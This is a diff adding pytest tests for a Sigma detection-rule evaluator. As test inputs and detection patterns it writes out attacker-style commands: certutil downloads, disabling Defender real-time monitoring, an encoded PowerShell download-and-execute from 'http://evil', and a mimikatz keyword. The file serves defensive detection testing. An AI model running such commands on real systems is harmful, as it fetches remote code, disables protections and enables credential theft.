@@ -0,0 +1,148 @@
+import base64
+import json
+
+import pytest
+
+from scripts import profiling
+from scripts.sigma_eval import UnsupportedRule, compile_detection, iter_event_chunks
+
+
+def matches(selection, event, condition="selection"):
+    return compile_detection({"selection": selection, "condition": condition})(event)
+
+
+@pytest.mark.parametrize(
+    "selection, value, expected",
+    [
+        ({"Image|endswith": "\\cmd.exe"}, "C:\\Windows\\System32\\CMD.EXE", True),
+        ({"Image|startswith": "c:\\windows\\"}, "C:\\Windows\\System32\\cmd.exe", True),
+        ({"Image|contains": "system32"}, "C:\\Windows\\SysWOW64\\cmd.exe", False),
+        ({"Image": "*\\cmd.exe"}, "C:\\Windows\\System32\\cmd.exe", True),
+        ({"Image": "C:*\\c?d.exe"}, "C:\\Windows\\System32\\cmd.exe", True),
+        ({"Image": "cmd.exe"}, "CMD.EXE", True),
+        ({"Image|cased": "cmd.exe"}, "CMD.EXE", False),
+        ({"Image": "a\\*b"}, "a*b", True),
+        ({"Image": "a\\*b"}, "axb", False),
+        ({"Image|re": "^C:\\\\Win.*cmd"}, "C:\\Windows\\cmd.exe", True),
+        ({"Image|re|i": "^c:\\\\win"}, "C:\\Windows\\cmd.exe", True),
+        ({"Image|re": "^c:\\\\win"}, "C:\\Windows\\cmd.exe", False),
+    ],
+)
+def test_string_modifiers(selection, value, expected):
+    assert matches(selection, {"Image": value}) is expected
+
+
+def test_list_values_are_ored_and_all_ands_them():
+    assert matches({"CommandLine|contains": ["-enc", "-nop"]}, {"CommandLine": "powershell -nop"})
+    assert not matches({"CommandLine|contains|all": ["-enc", "-nop"]}, {"CommandLine": "powershell -nop"})
+    assert matches({"CommandLine|contains|all": ["-enc", "-nop"]}, {"CommandLine": "powershell -nop -enc AA"})
+
+
+@pytest.mark.parametrize(
+    "command, expected",
+    [
+        ("certutil -urlcache -f http://x", True),
+        ("certutil /urlcache /f http://x", True),
+        ("certutil /urlcache -f http://x", True),
+        ("certutil /urlcache http://x", False),
+    ],
+)
+def test_windash_all_ors_variants_per_value(command, expected):
+    selection = {"CommandLine|windash|contains|all": ["-urlcache", "-f"]}
+    assert matches(selection, {"CommandLine": command}) is expected
+
+
+@pytest.mark.parametrize(
+    "command, expected",
+    [
+        ("Set-MpPreference -DisableRealtimeMonitoring 1", True),
+        ("Set-MpPreference /DisableRealtimeMonitoring 1", True),
+        ("Set-MpPreference \u2013DisableRealtimeMonitoring 1", True),
+        ("Set/MpPreference /DisableRealtimeMonitoring 1", False),
+    ],
+)
+def test_windash_only_replaces_flag_dashes(command, expected):
+    # Dashes inside words are kept: only the flag dash has windash variants.
+    selection = {"CommandLine|windash|contains": "Set-MpPreference -DisableRealtimeMonitoring"}
+    assert matches(selection, {"CommandLine": command}) is expected
+    assert matches({"CommandLine|windash|contains": "*-enc*"}, {"CommandLine": "powershell /enc AA"})
+
+
+def test_base64offset_all_ors_offsets_per_value():
+    selection = {"CommandLine|base64offset|contains|all": ["http://", "Invoke-"]}
+    for prefix in ("", "x", "xy"):
+        payload = base64.b64encode(f"{prefix}IEX (Invoke-Web 'http://evil')".encode()).decode()
+        assert matches(selection, {"CommandLine": f"powershell -enc {payload}"})
+    other = base64.b64encode(b"Invoke-Expression calc").decode()
+    assert not matches(selection, {"CommandLine": f"powershell -enc {other}"})
+
+
+def test_base64_utf16le():
+    payload = base64.b64encode("whoami".encode("utf-16le")).decode()
+    assert matches({"CommandLine|base64|utf16le|contains": "whoami"}, {"CommandLine": payload})
+
+
+def test_numeric_cidr_exists_and_null():
+    assert matches({"EventID|gte": 4624}, {"EventID": 4625})
+    assert not matches({"EventID|lt": 4624}, {"EventID": "4625"})
+    assert matches({"SourceIp|cidr": "10.0.0.0/8"}, {"SourceIp": "10.1.2.3"})
+    assert not matches({"SourceIp|cidr": "10.0.0.0/8"}, {"SourceIp": "not-an-ip"})
+    assert matches({"User|exists": False}, {"Image": "x"})
+    assert matches({"User": None}, {"Image": "x"})
+    assert not matches({"User": None}, {"User": "bob"})
+
+
+def test_nested_fields_and_lists():
+    assert matches({"user.name": "bob"}, {"user": {"name": "Bob"}})
+    assert matches({"Tags": "b"}, {"Tags": ["a", "b"]})
+
+
+def test_keywords_and_conditions():
+    detection = {
+        "selection_a": {"Image|endswith": "\\rundll32.exe"},
+        "selection_b": {"CommandLine|contains": "javascript:"},
+        "filter": {"ParentImage|endswith": "\\explorer.exe"},
+        "keywords": ["mimikatz"],
+        "condition": "(all of selection_* and not filter) or keywords",
+    }
+    match = compile_detection(detection)
+    event = {"Image": "C:\\rundll32.exe", "CommandLine": "javascript:alert", "ParentImage": "C:\\cmd.exe"}
+    assert match(event)
+    assert not match(dict(event, ParentImage="C:\\explorer.exe"))
+    assert match({"Message": "sekurlsa via MIMIKATZ"})
+    assert matches({"Image": "a"}, {"Image": "a"}, condition="1 of them")
+
+
+@pytest.mark.parametrize(
+    "detection",
+    [
+        {"selection": {"Image|foo": "x"}, "condition": "selection"},
+        {"selection": {"Image": "x"}, "condition": "selection | count() > 5"},
+        {"selection": {"Image": "x"}, "condition": "missing"},
+        {"selection": {"Image": "x"}},
+    ],
+)
+def test_unsupported_constructs(detection):
+    with pytest.raises(UnsupportedRule):
+        compile_detection(detection)
+
+
+def test_json_file_holding_ndjson_is_read_line_by_line(tmp_path, capsys):
+    path = tmp_path / "events.json"
+    path.write_text("\n".join(json.dumps({"EventID": i}) for i in range(3)) + "\n")
+    chunks = list(iter_event_chunks([str(path)]))
+    assert [json.loads(line)["EventID"] for chunk in chunks for line in chunk] == [0, 1, 2]
+    assert "events.json" in capsys.readouterr().out
+
+
+def test_ndjson_fallback_is_not_a_parse_error(tmp_path):
+    path = tmp_path / "events.json"
+    path.write_text(json.dumps({"EventID": 1}) + "\n" + json.dumps({"EventID": 2}) + "\n")
+    profiling.enable(trace_memory=False)
+    try:
+        assert sum(len(c) for c in iter_event_chunks([str(path)])) == 2
+        counters = profiling.summary()["counters"]
+    finally:
+        profiling.disable()
+        profiling.reset()
+    assert counters == {"json_read_as_jsonl": 1}